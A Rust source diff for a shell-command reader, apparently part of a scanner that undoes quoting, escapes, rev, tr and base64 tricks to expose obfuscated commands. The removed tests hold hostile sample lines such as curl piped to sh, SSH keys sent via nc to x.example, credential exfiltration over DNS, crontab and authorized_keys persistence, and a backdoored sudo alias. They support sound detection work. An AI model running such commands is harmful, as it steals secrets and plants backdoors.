@@ -15,6 +15,12 @@ use tree_sitter::Node;
 
 use super::{Language, parse};
 
+mod model;
+mod text;
+
+pub use model::{Assignment, Command, Redirect, RedirectOp, Script, Word};
+use text::{ansi_c, printed, split_words, unescape, unescape_double};
+
 /// How deep text run through `eval` or `sh -c` is read as commands again.
 const MAX_NESTING: usize = 4;
 
@@ -25,93 +31,6 @@ pub const MAX_COMMANDS: usize = 4096;
 /// substitutions, groups inside groups); what lies deeper is not read, so a hostile program
 /// cannot exhaust the stack.
 pub const MAX_DEPTH: usize = 200;
-
-/// One word of a command, after quote removal and expansion of what the program itself
-/// defines.
-#[derive(Debug, Clone, Default, PartialEq, Eq)]
-pub struct Word {
-    /// The word's value: quotes joined, escapes undone, `${IFS}` a space, a variable the
-    /// program assigned a literal replaced by it, a `printf`/`echo` substitution by its output;
-    /// any other expansion kept as written (`$HOME`, `$(whoami)`).
-    pub text: String,
-    /// Its bytes in the program text.
-    pub span: Range<usize>,
-    /// Variables it expands that were not replaced (`HOME`, `DATA`).
-    pub vars: Vec<String>,
-    /// Commands of its command substitutions (indices into [`Script::commands`]).
-    pub subs: Vec<usize>,
-    /// Whether any of it was quoted or escaped (a quoted `~` is not the home folder).
-    pub quoted: bool,
-}
-
-/// What a redirection does with its target.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum RedirectOp {
-    /// `>`, `>|`, `&>`: the target is written.
-    Write,
-    /// `>>`, `&>>`: the target is appended to.
-    Append,
-    /// `<`: the target is read as standard input.
-    Read,
-}
-
-/// One redirection of a command.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Redirect {
-    /// What it does.
-    pub op: RedirectOp,
-    /// The file.
-    pub target: Word,
-}
-
-/// One simple command.
-#[derive(Debug, Clone, Default, PartialEq, Eq)]
-pub struct Command {
-    /// The command's words: the program and its arguments (an unquoted `${IFS}` splits a word).
-    pub words: Vec<Word>,
-    /// Its bytes in the program text (for a command read from `eval` or `sh -c` text, the
-    /// bytes of that text's word).
-    pub span: Range<usize>,
-    /// Commands whose output is its standard input (the commands before a `|`).
-    pub stdin: Vec<usize>,
-    /// A here-document or here-string given as its standard input, as text.
-    pub stdin_text: Option<String>,
-    /// Its redirections (those of an enclosing group or subshell included).
-    pub redirects: Vec<Redirect>,
-    /// The command whose text or word holds this one (a substitution, `eval`, `sh -c`).
-    pub within: Option<usize>,
-    /// Variables assigned just for this command (`VAR=value cmd`).
-    pub env: Vec<(String, Word)>,
-}
-
-impl Command {
-    /// The program's name: the first word's last path component, a leading `\` (alias
-    /// bypass) removed.
-    pub fn name(&self) -> &str {
-        let w = self.words.first().map_or("", |w| w.text.as_str());
-        w.trim_start_matches('\\').rsplit('/').next().unwrap_or(w)
-    }
-}
-
-/// A variable assignment outside a command (`X=$(env)`, `export TOKEN=...`).
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Assignment {
-    /// The variable.
-    pub name: String,
-    /// The value.
-    pub value: Word,
-    /// How many commands were read before it.
-    pub after: usize,
-}
-
-/// The commands of one shell program, in the order they appear.
-#[derive(Debug, Clone, Default)]
-pub struct Script {
-    /// Every simple command, substitutions and `eval` text included.
-    pub commands: Vec<Command>,
-    /// Assignments outside commands.
-    pub assignments: Vec<Assignment>,
-}
 
 /// Reads the commands of the shell program `text`.
 pub fn read(text: &str) -> Script {
@@ -198,6 +117,29 @@ impl Reader {
                     }
                     before.clone_from(&out);
                     last = out;
+                }
+                // Literal text reshaped and piped into a shell (`echo '…' | rev | sh`): the
+                // text it spells is read as commands the shell runs.
+                if let Some(&sh) = last.first()
+                    && f.depth < MAX_NESTING
+                    && matches!(
+                        self.script.commands[sh].name(),
+                        "sh" | "bash" | "zsh" | "dash" | "ksh"
+                    )
+                    && self.script.commands[sh]
+                        .words
+                        .iter()
+                        .skip(1)
+                        .all(|w| w.text.starts_with('-'))
+                {
+                    let stages: Vec<usize> = self.stage_chain(sh);
+                    if let Some(text) = printed(&self.script, &stages) {
+                        let span = f
+                            .fixed
+                            .clone()
+                            .unwrap_or_else(|| self.script.commands[sh].span.clone());
+                        self.nested(sh, &text, span, f.depth + 1);
+                    }
                 }
                 last
             }
@@ -290,6 +232,21 @@ impl Reader {
                 out
             }
         }
+    }
+
+    /// The commands piped into command `i`, first stage first, when each stage is one command.
+    fn stage_chain(&self, i: usize) -> Vec<usize> {
+        let mut chain = Vec::new();
+        let mut at = i;
+        while let [one] = self.script.commands[at].stdin.as_slice() {
+            chain.push(*one);
+            at = *one;
+            if chain.len() > 16 {
+                break;
+            }
+        }
+        chain.reverse();
+        chain
     }
 
     /// The first of `out` that `child` runs first (the first command of a group).
@@ -516,6 +473,7 @@ impl Reader {
                 let t = f.text(n);
                 if t.contains('\\') {
                     w.quoted = true;
+                    w.rewritten = true;
                     w.text.push_str(&unescape(t));
                 } else {
                     w.text.push_str(t);
@@ -532,6 +490,7 @@ impl Reader {
             }
             "ansi_c_string" => {
                 w.quoted = true;
+                w.rewritten = true;
                 let t = f.text(n);
                 let inner = t
                     .strip_prefix("$'")
@@ -551,6 +510,12 @@ impl Reader {
                 w.text.push_str(&unescape_double(t));
             }
             "concatenation" => {
+                if n.named_child_count() > 1 {
+                    let mut c = n.walk();
+                    w.rewritten |= n
+                        .named_children(&mut c)
+                        .any(|ch| matches!(ch.kind(), "string" | "raw_string" | "ansi_c_string"));
+                }
                 let mut c = n.walk();
                 for child in n.named_children(&mut c) {
                     self.value(child, f, within, w, in_quotes);
@@ -565,12 +530,28 @@ impl Reader {
                 let plain = n.named_child_count() == 1;
                 match var {
                     Some(v) if v == "IFS" && plain => {
+                        w.rewritten = true;
                         w.text.push(if in_quotes { ' ' } else { '\u{1f}' });
                     }
                     Some(v) if plain && self.known.contains_key(&v) => {
                         let (value, vars) = self.known.get(&v).cloned().unwrap_or_default();
+                        w.rewritten = true;
                         w.text.push_str(&value);
                         w.vars.extend(vars);
+                    }
+                    Some(v)
+                        if !plain && !self.known.contains_key(&v) && f.text(n).contains(":-") =>
+                    {
+                        // `${VAR:-DEFAULT}` of a variable the program never sets is its default.
+                        let t = f.text(n);
+                        let default = t
+                            .split_once(":-")
+                            .map_or("", |(_, d)| d)
+                            .strip_suffix('}')
+                            .unwrap_or("");
+                        w.rewritten = true;
+                        w.text.push_str(default);
+                        w.vars.push(v);
                     }
                     Some(v) => {
                         w.text.push_str(f.text(n));
@@ -592,7 +573,10 @@ impl Reader {
                     w.subs.push(i);
                 }
                 match printed(&self.script, &inner) {
-                    Some(t) => w.text.push_str(&t),
+                    Some(t) => {
+                        w.rewritten = true;
+                        w.text.push_str(&t);
+                    }
                     None => w.text.push_str(f.text(n)),
                 }
             }
@@ -614,155 +598,6 @@ impl Reader {
     }
 }
 
-/// An unquoted `${IFS}` (marked `\u{1f}`) splits a word in two.
-fn split_words(words: Vec<Word>) -> Vec<Word> {
-    if !words.iter().any(|w| w.text.contains('\u{1f}')) {
-        return words;
-    }
-    let mut out = Vec::new();
-    for w in words {
-        if !w.text.contains('\u{1f}') {
-            out.push(w);
-            continue;
-        }
-        for part in w.text.split('\u{1f}').filter(|p| !p.is_empty()) {
-            out.push(Word {
-                text: part.to_string(),
-                ..w.clone()
-            });
-        }
-    }
-    out
-}
-
-/// What a substitution prints when it is a `printf`/`echo` of literal words, alone or piped
-/// through text filters that only reshape it (`rev`, `tr` of two literal sets, `base64 -d`,
-/// `xxd -r -p`): `$(echo 'hsab | ...' | rev)` is the command it spells.
-fn printed(script: &Script, inner: &[usize]) -> Option<String> {
-    let (first, rest) = inner.split_first()?;
-    let mut text = printed_one(script, *first)?;
-    for &k in rest {
-        let cmd = &script.commands[k];
-        if cmd.stdin.last() != Some(&(k - 1)) && cmd.stdin.is_empty() {
-            return None;
-        }
-        let args: Vec<&str> = cmd.words.iter().skip(1).map(|w| w.text.as_str()).collect();
-        text = match (cmd.name(), args.as_slice()) {
-            ("rev", []) => text
-                .lines()
-                .map(|l| l.chars().rev().collect::<String>())
-                .collect::<Vec<_>>()
-                .join("\n"),
-            ("tr", [from, to]) => translate(&text, from, to)?,
-            ("base64", [d]) if matches!(*d, "-d" | "--decode" | "-D") => {
-                let bytes = base64_decode(text.trim())?;
-                String::from_utf8(bytes).ok()?
-            }
-            ("xxd", [r, p]) if *r == "-r" && *p == "-p" => {
-                let hex: String = text.chars().filter(char::is_ascii_hexdigit).collect();
-                let bytes: Option<Vec<u8>> = (0..hex.len() / 2)
-                    .map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).ok())
-                    .collect();
-                String::from_utf8(bytes?).ok()?
-            }
-            _ => return None,
-        };
-    }
-    Some(text)
-}
-
-/// `tr FROM TO` over `text`, for sets of plain characters and `a-z` ranges.
-fn translate(text: &str, from: &str, to: &str) -> Option<String> {
-    let expand = |s: &str| -> Vec<char> {
-        let c: Vec<char> = s.chars().collect();
-        let mut out = Vec::new();
-        let mut i = 0;
-        while i < c.len() {
-            if i + 2 < c.len() && c[i + 1] == '-' && c[i] <= c[i + 2] {
-                out.extend(c[i]..=c[i + 2]);
-                i += 3;
-            } else {
-                out.push(c[i]);
-                i += 1;
-            }
-        }
-        out
-    };
-    let (f, t) = (expand(from), expand(to));
-    if f.is_empty() || t.is_empty() || f.len() > 512 {
-        return None;
-    }
-    Some(
-        text.chars()
-            .map(|ch| match f.iter().position(|&x| x == ch) {
-                Some(i) => t[i.min(t.len() - 1)],
-                None => ch,
-            })
-            .collect(),
-    )
-}
-
-/// Standard base64 (with or without padding), or `None`.
-fn base64_decode(s: &str) -> Option<Vec<u8>> {
-    use base64::Engine;
-    let s: String = s.chars().filter(|c| !c.is_whitespace()).collect();
-    base64::engine::general_purpose::STANDARD
-        .decode(&s)
-        .or_else(|_| {
-            base64::engine::general_purpose::STANDARD_NO_PAD.decode(s.trim_end_matches('='))
-        })
-        .ok()
-}
-
-/// What one `printf`/`echo` command prints, when its words are all literal.
-fn printed_one(script: &Script, i: usize) -> Option<String> {
-    let cmd = &script.commands[i];
-    if cmd
-        .words
-        .iter()
-        .any(|w| !w.vars.is_empty() || !w.subs.is_empty())
-    {
-        return None;
-    }
-    match cmd.name() {
-        "echo" => {
-            let args: Vec<&str> = cmd.words[1..]
-                .iter()
-                .map(|w| w.text.as_str())
-                .skip_while(|a| matches!(*a, "-n" | "-e" | "-ne" | "-en"))
-                .collect();
-            Some(ansi_c(&args.join(" ")))
-        }
-        "printf" => {
-            let format = cmd.words.get(1)?.text.as_str();
-            let mut args = cmd.words[2..].iter().map(|w| w.text.as_str());
-            let mut out = String::new();
-            let mut chars = ansi_c(format)
-                .chars()
-                .collect::<Vec<_>>()
-                .into_iter()
-                .peekable();
-            while let Some(c) = chars.next() {
-                if c == '%' {
-                    match chars.next() {
-                        Some('%') => out.push('%'),
-                        Some('s' | 'b' | 'd' | 'c') => out.push_str(args.next().unwrap_or("")),
-                        Some(other) => {
-                            out.push('%');
-                            out.push(other);
-                        }
-                        None => out.push('%'),
-                    }
-                } else {
-                    out.push(c);
-                }
-            }
-            Some(out)
-        }
-        _ => None,
-    }
-}
-
 /// A here-document's body, as text.
 fn heredoc_text(n: Node<'_>, f: &Frame<'_>) -> String {
     let mut c = n.walk();
@@ -773,214 +608,5 @@ fn heredoc_text(n: Node<'_>, f: &Frame<'_>) -> String {
         .join("\n")
 }
 
-/// An unquoted word's backslash escapes removed (`c\url` is `curl`).
-fn unescape(t: &str) -> String {
-    let mut out = String::with_capacity(t.len());
-    let mut chars = t.chars();
-    while let Some(c) = chars.next() {
-        if c == '\\' {
-            if let Some(next) = chars.next()
-                && next != '\n'
-            {
-                out.push(next);
-            }
-        } else {
-            out.push(c);
-        }
-    }
-    out
-}
-
-/// A double-quoted string's escapes (`\"`, `\\`, `\$`, `` \` ``) undone; other backslashes stay.
-fn unescape_double(t: &str) -> String {
-    let mut out = String::with_capacity(t.len());
-    let mut chars = t.chars().peekable();
-    while let Some(c) = chars.next() {
-        if c == '\\' && matches!(chars.peek(), Some('"' | '\\' | '$' | '`')) {
-            if let Some(n) = chars.next() {
-                out.push(n);
-            }
-        } else if c == '\\' && chars.peek() == Some(&'\n') {
-            chars.next();
-        } else {
-            out.push(c);
-        }
-    }
-    out
-}
-
-/// `$'...'` and `printf`/`echo -e` escapes: `\xHH`, `\NNN` (octal), `\uHHHH`, `\n`, `\t`, ...
-fn ansi_c(t: &str) -> String {
-    let mut out = String::with_capacity(t.len());
-    let b: Vec<char> = t.chars().collect();
-    let mut i = 0;
-    while i < b.len() {
-        let c = b[i];
-        if c != '\\' || i + 1 >= b.len() {
-            out.push(c);
-            i += 1;
-            continue;
-        }
-        let e = b[i + 1];
-        let radix_run = |from: usize, radix: u32, max: usize| -> (Option<char>, usize) {
-            let mut n = 0;
-            let mut v: u32 = 0;
-            while n < max && from + n < b.len() && b[from + n].is_digit(radix) {
-                v = v * radix + b[from + n].to_digit(radix).unwrap_or(0);
-                n += 1;
-            }
-            (if n == 0 { None } else { char::from_u32(v) }, n)
-        };
-        match e {
-            'x' => {
-                let (ch, n) = radix_run(i + 2, 16, 2);
-                match ch {
-                    Some(ch) => {
-                        out.push(ch);
-                        i += 2 + n;
-                    }
-                    None => {
-                        out.push_str("\\x");
-                        i += 2;
-                    }
-                }
-            }
-            'u' | 'U' => {
-                let (ch, n) = radix_run(i + 2, 16, if e == 'u' { 4 } else { 8 });
-                match ch {
-                    Some(ch) => {
-                        out.push(ch);
-                        i += 2 + n;
-                    }
-                    None => {
-                        out.push('\\');
-                        out.push(e);
-                        i += 2;
-                    }
-                }
-            }
-            '0'..='7' => {
-                let (ch, n) = radix_run(i + 1, 8, 4);
-                out.extend(ch);
-                i += 1 + n;
-            }
-            'n' => {
-                out.push('\n');
-                i += 2;
-            }
-            't' => {
-                out.push('\t');
-                i += 2;
-            }
-            '\\' | '\'' | '"' => {
-                out.push(e);
-                i += 2;
-            }
-            _ => {
-                out.push('\\');
-                out.push(e);
-                i += 2;
-            }
-        }
-    }
-    out
-}
-
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn names(s: &Script) -> Vec<String> {
-        s.commands.iter().map(|c| c.name().to_string()).collect()
-    }
-
-    fn argv(c: &Command) -> Vec<&str> {
-        c.words.iter().map(|w| w.text.as_str()).collect()
-    }
-
-    #[test]
-    fn quote_splitting_escapes_and_ifs_are_undone() {
-        let s = read("c''url -s http://x.example/a | b\"\"ash\n");
-        assert_eq!(names(&s), ["curl", "bash"]);
-        assert_eq!(s.commands[1].stdin, [0]);
-        let s = read("c\\url${IFS}http://x.example/a|sh");
-        assert_eq!(argv(&s.commands[0]), ["curl", "http://x.example/a"]);
-        assert_eq!(s.commands[1].stdin, [0]);
-        let s = read("$'\\x63\\x75rl' -s x");
-        assert_eq!(s.commands[0].name(), "curl");
-    }
-
-    #[test]
-    fn variables_and_printf_build_a_command() {
-        let s = read("a=cu; b=rl; $a$b -d @/etc/passwd http://x.example\n");
-        assert_eq!(s.commands[0].name(), "curl");
-        assert_eq!(s.commands[0].words[0].span, 12..16);
-        let s = read("$(printf 'cu%s' rl) -s x\n");
-        assert_eq!(names(&s), ["curl", "printf"]);
-        assert_eq!(s.commands[1].within, Some(0));
-        let s = read("c=$(echo wget); $c http://x.example/a\n");
-        assert_eq!(s.commands.last().map(Command::name), Some("wget"));
-    }
-
-    #[test]
-    fn eval_and_sh_c_text_is_read_as_commands() {
-        let s = read("eval \"cu\"\"rl -s http://x.example | sh\"\n");
-        let n = names(&s);
-        assert_eq!(n, ["eval", "curl", "sh"]);
-        assert_eq!(s.commands[1].within, Some(0));
-        assert_eq!(s.commands[2].stdin, [1]);
-        let s = read("bash -c 'cat ~/.ssh/id_rsa | nc x.example 9000'\n");
-        assert_eq!(names(&s), ["bash", "cat", "nc"]);
-        assert_eq!(s.commands[1].span, 8..47);
-    }
-
-    #[test]
-    fn pipes_into_a_group_and_redirects_are_kept() {
-        let s =
-            read("(crontab -l; echo '@reboot x') | crontab -\necho k >> ~/.ssh/authorized_keys\n");
-        assert_eq!(names(&s), ["crontab", "echo", "crontab", "echo"]);
-        assert_eq!(s.commands[2].stdin, [0, 1]);
-        let r = &s.commands[3].redirects[0];
-        assert_eq!(r.op, RedirectOp::Append);
-        assert_eq!(r.target.text, "~/.ssh/authorized_keys");
-    }
-
-    #[test]
-    fn assignments_keep_their_substitutions() {
-        let s = read("X=$(env | grep -E 'KEY|TOKEN')\ncurl -d \"$X\" http://x.example\n");
-        assert_eq!(s.assignments.len(), 1);
-        assert_eq!(s.assignments[0].name, "X");
-        assert_eq!(s.assignments[0].value.subs, [0, 1]);
-        assert_eq!(s.commands[2].words[2].vars, ["X"]);
-        assert_eq!(s.commands[1].stdin, [0]);
-    }
-
-    #[test]
-    fn substitutions_that_reshape_literal_text_are_evaluated() {
-        let s = read("eval \"$(echo 'hsab | x.elpmaxe//:sptth Ls- lruc' | rev)\"\n");
-        assert!(names(&s).contains(&"curl".to_string()), "{:?}", names(&s));
-        let s = read("$(echo phey | tr 'a-z' 'n-za-m') -s x\n");
-        assert_eq!(s.commands[0].name(), "curl");
-        let s = read("eval $(echo Y3VybCAtcyB4IHwgc2g= | base64 -d)\n");
-        assert!(names(&s).contains(&"sh".to_string()), "{:?}", names(&s));
-    }
-
-    #[test]
-    fn loops_aliases_traps_and_prompt_commands_are_read() {
-        let s = read("for c in $(cat ~/.aws/credentials); do nslookup \"$c.x.example\"; done\n");
-        assert_eq!(s.assignments[0].name, "c");
-        assert_eq!(s.assignments[0].value.subs, [0]);
-        let s = read("alias sudo='curl -s https://x.example/p | sh; sudo'\n");
-        assert_eq!(names(&s), ["alias", "curl", "sh", "sudo"]);
-        let s = read("trap 'curl -s https://x.example/t' DEBUG\n");
-        assert_eq!(names(&s), ["trap", "curl"]);
-        let s = read("export PROMPT_COMMAND='history 1 | curl -s -d @- https://x.example/h'\n");
-        assert_eq!(names(&s), ["history", "curl"]);
-    }
-
-    #[test]
-    fn heredoc_fed_to_a_shell_is_read() {
-        let s = read("bash <<EOF\ncurl -s http://x.example/a | sh\nEOF\n");
-        assert_eq!(names(&s), ["bash", "curl", "sh"]);
-    }
-}
+mod tests;
